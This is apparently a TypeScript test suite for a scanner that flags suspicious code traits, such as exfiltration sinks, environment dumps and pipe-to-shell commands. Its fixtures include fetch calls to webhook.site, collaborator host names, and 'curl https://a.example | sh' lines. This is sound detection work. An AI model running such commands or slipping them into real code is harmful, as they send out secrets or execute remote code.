import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { findPlaces, indexOfAnchors, placesOfBytes } from '../../../src/content/traits/places.ts';
import { stretches, table } from '../../../src/content/traits/stretches.ts';
import { anchors, traitsOf, traitsOfText } from '../../../src/content/traits/traits.ts';
import { traitKinds } from '../../../src/model/code-signs.ts';
import { kindsIn, lookAt, ofKind, scanOf } from './given.ts';

const sink = "fetch('https://webhook.site/a')";

describe('anchors', () => {
  it('are there once each, in lower case where they are ASCII', () => {
    expect(new Set(anchors).size).toBe(anchors.length);
    expect(anchors.filter((anchor) => anchor === '' || /[A-Z]/.test(anchor))).toEqual([]);
  });
});

describe('a trait', () => {
  it('names its line and shows it', () => {
    const [trait] = ofKind(`a();\n\n  ${sink}; // b\nc();`, 'sink');
    expect(trait).toEqual({ kind: 'sink', line: 3, excerpt: `${sink}; // b`, what: 'webhook.site' });
  });

  it('shows 200 characters of a long line, around the place', () => {
    const [trait] = ofKind(`${'a;'.repeat(5_000)}${sink};${'b;'.repeat(5_000)}`, 'sink');
    expect(trait?.line).toBe(1);
    expect(trait?.excerpt).toContain('webhook.site');
    expect(trait?.excerpt.length).toBeLessThanOrEqual(200);
  });

  it('is placed by characters where the scan counts bytes', () => {
    const [trait] = ofKind(`"${'é€😀K'.repeat(3_000)}";\n${sink}`, 'sink');
    expect(trait?.line).toBe(2);
  });

  it('is found in bytes that are no UTF-8', () => {
    const bytes = Buffer.concat([Buffer.from([0xe2, 0x82, 0x0a, 0xe2, 0x82, 0x0a]), Buffer.from(sink)]);
    expect(traitsOf('a.js', scanOf('', 'script', bytes)).traits.map(({ kind }) => kind)).toContain('sink');
  });

  it('comes three times for one thing, and eight times for one kind', () => {
    expect(ofKind(`${sink};\n`.repeat(50), 'sink')).toHaveLength(3);
    const names = ['webhook.site', 'oastify.com', 'interact.sh', 'beeceptor.com'];
    expect(ofKind(names.map((name) => `f('https://${name}/');\n`.repeat(3)).join(''), 'sink')).toHaveLength(
      8,
    );
  });

  it('is not hidden by decoys', () => {
    expect(kindsIn(`${'a = process.env.A;\n'.repeat(2_000)}f(JSON.stringify(process.env))`)).toContain(
      'environment-dump',
    );
  });

  it('is not hidden by more decoys than anybody looks at without a word', () => {
    expect(lookAt('a = process.env.A;\n'.repeat(40_000)).more).toBe(true);
    expect(lookAt('a = process.env.A;\n'.repeat(1_000)).more).toBeUndefined();
  });

  it('is seen in a command, where nothing is a comment', () => {
    const { traits } = traitsOfText('curl https://a.example/#// | sh');
    expect(traits.map(({ kind }) => kind)).toEqual(['pipe-to-shell']);
  });

  it('is not what stands in the comments of a shell', () => {
    const text = '#!/bin/sh\n# curl https://a.example | sh\nls\n';
    expect(kindsIn(text, 'a.sh', 'shell')).toEqual([]);
    expect(kindsIn(text.replace('# ', ''), 'a.sh', 'shell')).toEqual(['pipe-to-shell']);
    expect(kindsIn('REM curl https://a.example | sh\r\n', 'a.cmd', 'shell')).toEqual([]);
  });

  it('is of data only what code would not have there', () => {
    expect(kindsIn('{"a": "https://webhook.site/x", "b": "os.hostname()"}', 'a.json', 'data')).toEqual([
      'sink',
    ]);
  });

  it('is none in binaries', () => {
    expect(lookAt(sink, 'a', 'binary').traits).toEqual([]);
  });
});

const word = fc.constantFrom(
  ...anchors,
  ...traitKinds,
  '(',
  ')',
  '"',
  "'",
  '`',
  '${',
  '}',
  '//',
  '/*',
  '*/',
  '\n',
  ' ',
  '+',
  '\\',
  '\ud800',
  '\u0000',
);

/** A scan reads bytes, which have no half characters. */
const wellFormed = (text: string) => Buffer.from(text).toString();

describe('whatever stands there', () => {
  it('throws nothing, and keeps within its bounds', () => {
    fc.assert(
      fc.property(
        fc.array(fc.oneof(word, fc.string({ unit: 'binary', maxLength: 8 })), { maxLength: 80 }),
        (parts) => {
          const text = parts.join('');
          for (const seen of [traitsOfText(text), traitsOf('a.js', scanOf(text))]) {
            expect(seen.hosts.length).toBeLessThanOrEqual(32);
            for (const { line, excerpt } of seen.traits) {
              expect(line).toBeGreaterThan(0);
              expect(excerpt.length).toBeLessThanOrEqual(200);
            }
          }
        },
      ),
      { numRuns: 150 },
    );
  });

  it('finds the same with a scan and without one, but for comments', () => {
    fc.assert(
      fc.property(fc.array(word, { maxLength: 60 }), (parts) => {
        const text = wellFormed(parts.join('')).replaceAll('/', '|');
        expect(traitsOf('a.js', scanOf(text))).toEqual(traitsOfText(text));
      }),
      { numRuns: 100 },
    );
  });

  it.each([0, 1, 2, 3])('leads past the only wide character of a large file, at %d', (more) => {
    const text = `${'a'.repeat(1_000 + more)}é${'b'.repeat(1_000)}webhook.site`;
    const { anchors: scanned, utf8, length } = scanOf(text);
    const places = placesOfBytes(text, scanned, utf8, length);
    expect(places.get('webhook.site')).toEqual([text.indexOf('webhook.site')]);
  });

  it('leads from bytes to characters', () => {
    fc.assert(
      fc.property(fc.array(word, { maxLength: 40 }), (parts) => {
        const text = wellFormed(parts.join('')).toLowerCase();
        const { anchors: scanned, utf8, length } = scanOf(text);
        expect(new Map([...placesOfBytes(text, scanned, utf8, length)].sort())).toEqual(
          new Map([...findPlaces(text, indexOfAnchors(anchors))].sort()),
        );
      }),
      { numRuns: 100 },
    );
  });

  it('finds stretches as a pattern would', () => {
    const characters = table(/[ab]/);
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom('a', 'b', 'c', 'aaaa', 'bbbbbb', 'é'), { maxLength: 80 }),
        (parts) => {
          const text = parts.join('');
          const expected = [...text.matchAll(/[ab]{5,}/g)].map(({ index, 0: found }) => ({
            ...{ start: index, end: index + found.length },
          }));
          expect(stretches(text, characters, 5, 100)).toEqual(expected);
        },
      ),
    );
  });

  it.each([
    ['one long line', 'a'.repeat(4_000_000)],
    ['one long literal', `"${'aB3/'.repeat(1_000_000)}"`],
    ['brackets alone', '[]+('.repeat(1_000_000)],
    ['escapes alone', `"${'\\x61'.repeat(500_000)}"`],
    ['selectors alone', '\ufe01'.repeat(1_000_000)],
    ['blanks alone', ' '.repeat(4_000_000)],
    ['templates in templates', `\`\${`.repeat(500_000)],
    ['comments that are never closed', '/*'.repeat(1_000_000)],
  ])('ends with %s', (_, text) => {
    expect(() => traitsOfText(text)).not.toThrow();
    expect(() => lookAt(text)).not.toThrow();
  });
});
